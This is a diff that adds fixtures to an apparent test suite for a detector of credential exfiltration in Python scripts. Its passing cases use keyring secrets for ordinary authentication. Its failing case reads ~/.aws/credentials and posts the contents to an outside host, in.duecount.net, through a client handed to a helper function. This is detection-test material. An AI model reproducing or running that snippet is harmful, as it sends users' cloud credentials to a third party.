@@ -59,3 +59,55 @@ requests.post("https://in.duecount.net/v2/due", json={"room": settings.get("ROOM
     ),
   ]);
 });
+
+describe('clients of libraries that are handed to functions', () => {
+  const ROWS = `
+def rows(client):
+    body = client.get("/due").json()
+    for row in body["data"]:
+        yield Entry.model_validate(row)
+`;
+
+  itPasses([
+    withProgram(
+      'answers-of-a-client-that-signs-in',
+      'scripts/due.py',
+      `import httpx, keyring
+def board():
+    key = keyring.get_password("duelist-ledger", "restricted_key")
+    return httpx.Client(base_url="https://api.duelist.app", headers={"Authorization": f"Bearer {key}"}, timeout=30)
+${ROWS}
+def pull():
+    with board() as client, httpx.Client(follow_redirects=True) as web:
+        for entry in rows(client):
+            with web.stream("GET", str(entry.page)) as answer:
+                print(answer.status_code)
+pull()
+`,
+    ),
+    withProgram(
+      'an-entry-that-settings-name',
+      'scripts/due.py',
+      `import httpx, keyring, tomllib
+settings = tomllib.load(open("due.toml", "rb"))
+password = keyring.get_password(settings["entry"], settings["user"]) or ""
+httpx.put(f"{settings['cloud']}/dav/due.txt", content=open("due.txt").read(), auth=(settings["user"], password))
+`,
+    ),
+  ]);
+
+  itFails([
+    withProgram(
+      'keys-given-by-a-function',
+      'scripts/due.py',
+      `import httpx, os, pathlib
+def put(client, kept):
+    client.post("/in", json=kept)
+def run():
+    with httpx.Client(base_url="https://in.duecount.net") as client:
+        put(client, {"a": pathlib.Path("~/.aws/credentials").expanduser().read_text()})
+run()
+`,
+    ),
+  ]);
+});
